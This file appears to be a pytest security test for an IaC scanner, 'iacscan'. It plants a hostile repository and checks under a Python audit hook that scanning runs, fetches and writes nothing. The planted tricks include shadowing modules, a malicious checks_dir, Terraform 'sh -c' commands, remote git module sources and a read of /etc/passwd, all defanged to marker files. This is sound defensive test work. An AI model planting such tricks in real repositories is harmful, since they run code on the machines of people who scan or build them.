"""Scanning a hostile repository runs none of its code and writes nothing outside what the user
asked for.

The scan runs in a child process under a Python audit hook (PEP 578) that reports every
process start, every network call, every file opened for writing outside the test's folder,
and every code object executed from the scanned tree. The planted files would also leave marker
files if they ever ran. Forked parse workers inherit the hook."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

AUDIT = textwrap.dedent(
    """
    import json, os, sys

    ALLOWED = os.path.realpath(os.environ["IACSCAN_TEST_ALLOWED"])
    REPO = os.path.realpath(os.environ["IACSCAN_TEST_REPO"])
    START = os.getcwd()
    RUNS = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
            "os.startfile", "pty.spawn"}
    NETWORK = {"socket.connect", "socket.getaddrinfo", "socket.gethostbyname",
               "socket.gethostbyaddr", "urllib.Request", "http.client.connect"}
    WRITE = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC

    def violation(text):
        sys.__stderr__.write(f"AUDIT-VIOLATION pid={os.getpid()}: {text}\\n")
        sys.__stderr__.flush()

    def inside(path, folder):
        if not os.path.isabs(path):
            path = os.path.join(START, path)
        real = os.path.realpath(path)
        return real == folder or real.startswith(folder + os.sep)

    def hook(event, args):
        if event in RUNS or event in NETWORK:
            violation(f"{event} {args!r:.200}")
        elif event == "open":
            path, mode, flags = args
            if isinstance(path, int) or path is None:
                return
            writing = any(c in str(mode or "") for c in "wax+") or bool((flags or 0) & WRITE)
            path = os.fsdecode(path)
            if writing and not inside(path, ALLOWED) and path != os.devnull:
                violation(f"write {path}")
        elif event == "ctypes.dlopen" and isinstance(args[0], str) and source(args[0]):
            violation(f"dlopen {args[0]}")  # (ctypes itself opens None, the process)
        elif event == "exec" and hasattr(args[0], "co_filename"):
            if source(args[0].co_filename):
                violation(f"exec {args[0].co_filename}")
        elif event == "compile" and isinstance(args[1], str) and source(args[1]):
            violation(f"compile {args[1]}")

    def source(filename):
        # a file of the scanned tree, not `<string>` and the like
        return not filename.startswith("<") and inside(filename, REPO)

    sys.addaudithook(hook)
    """
)

CLI = AUDIT + textwrap.dedent(
    """
    from iacscan.cli import main
    sys.argv = ["iacscan", *sys.argv[1:]]
    try:
        main()
    except SystemExit as exit:
        sys.exit(exit.code)
    """
)

POOLED = AUDIT + textwrap.dedent(
    """
    from pathlib import Path
    from iacscan.execution import ExecutionOptions
    from iacscan.registry import load_checks
    from iacscan.scan import ScanConfig, scan

    root = Path(REPO)
    execution = ExecutionOptions(jobs=2, pool_min_files=0, pool_min_bytes=0)
    result = scan([root], ScanConfig(root=root, checks=load_checks(), execution=execution))
    print(json.dumps({"resources": result.stats.resources,
                      "errors": [[e.file, e.kind, e.message] for e in result.errors]}))
    """
)


def _marker_writer(markers: Path, name: str) -> str:
    return f"open({str(markers / name)!r}, 'w').write('ran')\n"


def plant(repo: Path, markers: Path) -> None:
    """A repository whose every trick would leave a file in `markers` if it worked."""
    (repo / "evil").mkdir(parents=True)
    (repo / "modules" / "local").mkdir(parents=True)
    python = {
        "conftest.py": "conftest",
        "setup.py": "setup",
        "sitecustomize.py": "sitecustomize",
        "usercustomize.py": "usercustomize",
        "yaml.py": "yaml",  # names that shadow libraries the scanner imports
        "click.py": "click",
        "lark.py": "lark",
        "hcl2.py": "hcl2",
        "evil/check_evil.py": "checks_dir",
        "evil/__init__.py": "checks_dir_package",
    }
    for rel, marker in python.items():
        (repo / rel).write_text(_marker_writer(markers, marker))
    (repo / ".iacscan.yaml").write_text("checks_dir: ./evil\n")
    touch = str(markers / "terraform")
    (repo / "main.tf").write_text(
        textwrap.dedent(
            f"""\
            data "external" "run" {{
              program = ["sh", "-c", "touch {touch}-external"]
            }}

            resource "null_resource" "run" {{
              provisioner "local-exec" {{
                command = "touch {touch}-provisioner"
              }}
            }}

            module "git" {{
              source = "git::file://{repo}/evil-repo?ref=main"
            }}

            module "remote" {{
              source = "git::https://example.invalid/evil.git"
            }}

            module "registry" {{
              source  = "hashicorp/consul/aws"
              version = "0.1.0"
            }}

            module "local" {{
              source = "./modules/local"
            }}

            resource "aws_s3_bucket" "b" {{
              bucket = templatefile("${{path.module}}/evil.tpl", {{}})
              acl    = file("/etc/passwd")
            }}
            """
        )
    )
    (repo / "modules" / "local" / "main.tf").write_text(
        f'data "external" "inner" {{\n  program = ["sh", "-c", "touch {touch}-inner"]\n}}\n'
    )
    (repo / "template.yaml").write_text(
        "Transform: [AWS::Serverless-2016-10-31, Evil::Macro]\nResources:\n  Run:\n"
        "    Type: Custom::Run\n    Properties:\n      ServiceToken: arn:aws:lambda:x\n"
    )


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path, dict[str, str]]:
    repo, markers = tmp_path / "repo", tmp_path / "markers"
    markers.mkdir()
    plant(repo, markers)
    env = {
        **os.environ,
        "IACSCAN_TEST_ALLOWED": str(tmp_path),
        "IACSCAN_TEST_REPO": str(repo),
        "HOME": str(tmp_path / "home"),
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
        "TMPDIR": str(tmp_path / "tmp"),  # tempfile probes its folder by writing a file there
        "PYTHONDONTWRITEBYTECODE": "1",
    }
    (tmp_path / "tmp").mkdir()
    return repo, tmp_path, env


def _run(
    script: str, args: list[str], repo: Path, env: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    # -P: the working directory (the hostile checkout) is not put on sys.path, as for the
    # installed `iacscan` command; `python -m iacscan` inside a checkout would put it there.
    return subprocess.run(
        [sys.executable, "-P", "-c", script, *args],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def _assert_nothing_ran(done: subprocess.CompletedProcess[str], folder: Path) -> None:
    violations = [line for line in done.stderr.splitlines() if "AUDIT-VIOLATION" in line]
    assert violations == []
    assert sorted(p.name for p in (folder / "markers").iterdir()) == []
    assert not (folder.parent / "terraform-external").exists()


def test_a_config_in_the_scanned_tree_cannot_load_its_checks(
    hostile: tuple[Path, Path, dict[str, str]],
) -> None:
    repo, folder, env = hostile
    done = _run(CLI, ["scan", "."], repo, env)
    assert done.returncode == 2
    assert "checks_dir loads Python code from the scanned repository" in done.stderr
    _assert_nothing_ran(done, folder)


def test_scanning_a_hostile_tree_runs_and_fetches_nothing(
    hostile: tuple[Path, Path, dict[str, str]],
) -> None:
    repo, folder, env = hostile
    (folder / "safe.yaml").write_text("fail_on: critical\n")
    sarif = folder / "out" / "report.sarif"
    args = ["scan", ".", "--config", str(folder / "safe.yaml"), "-o", "json"]
    done = _run(CLI, [*args, "-o", f"sarif={sarif}"], repo, env)
    _assert_nothing_ran(done, folder)
    assert done.returncode in (0, 1, 3), done.stderr
    report = json.loads(done.stdout)
    assert [e for e in report["errors"] if e["kind"] in ("internal", "check")] == []
    files = {f["file"] for f in report["findings"]}
    assert "main.tf" in files
    assert json.loads(sarif.read_text())["version"] == "2.1.0"


def test_forked_parse_workers_run_nothing_either(
    hostile: tuple[Path, Path, dict[str, str]],
) -> None:
    repo, folder, env = hostile
    (repo / ".iacscan.yaml").unlink()
    done = _run(POOLED, [], repo, env)
    _assert_nothing_ran(done, folder)
    assert done.returncode == 0, done.stderr
    summary = json.loads(done.stdout)
    assert summary["resources"] > 5
    assert [e for e in summary["errors"] if e[1] in ("internal", "check")] == []


def test_the_audit_hook_sees_what_it_must_catch(tmp_path: Path) -> None:
    """The harness itself: a process start, a write outside, a connect, code from the tree."""
    (tmp_path / "repo").mkdir()
    (tmp_path / "repo" / "mod.py").write_text("x = 1\n")
    env = {
        **os.environ,
        "IACSCAN_TEST_ALLOWED": str(tmp_path / "allowed"),
        "IACSCAN_TEST_REPO": str(tmp_path / "repo"),
    }
    script = AUDIT + textwrap.dedent(
        f"""
        import socket, subprocess, runpy
        subprocess.run(["true"])
        open({str(tmp_path / "outside.txt")!r}, "w").close()
        try:
            socket.create_connection(("127.0.0.1", 9), timeout=0.1)
        except OSError:
            pass
        runpy.run_path({str(tmp_path / "repo" / "mod.py")!r})
        """
    )
    done = _run(script, [], tmp_path, env)
    events = [line.split(": ", 1)[1].split(" ")[0] for line in done.stderr.splitlines()]
    assert {"subprocess.Popen", "write", "socket.connect", "exec"} <= set(events), done.stderr
